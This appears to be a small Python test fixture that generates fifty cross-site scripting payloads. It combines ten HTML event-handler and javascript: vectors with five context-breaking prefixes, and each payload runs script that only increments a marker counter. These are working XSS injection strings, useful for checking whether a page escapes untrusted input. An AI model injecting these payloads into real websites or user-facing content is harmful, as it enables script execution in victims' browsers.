"""Fifty texts that would run in a page that shows one of them as it is."""

# What runs says so in a place that outlives it.
RUN = "window.xss=(window.xss||0)+1"
_TAGS = (
    "img src=x onerror={}",
    "svg onload={}",
    "body onload={}",
    "input autofocus onfocus={}",
    "iframe srcdoc='{}'",
    "video><source onerror={}",
    "details open ontoggle={}",
    "math><mtext><script>{}</script",
    "object data='javascript:{}'",
    "style>@import 'javascript:{}'</style",
)
_BEFORE = ("", '">', "'>", "</td></tr></table>", "</style></title>")
PAYLOADS = [f"{before}<{tag.format(RUN)}>" for before in _BEFORE for tag in _TAGS]
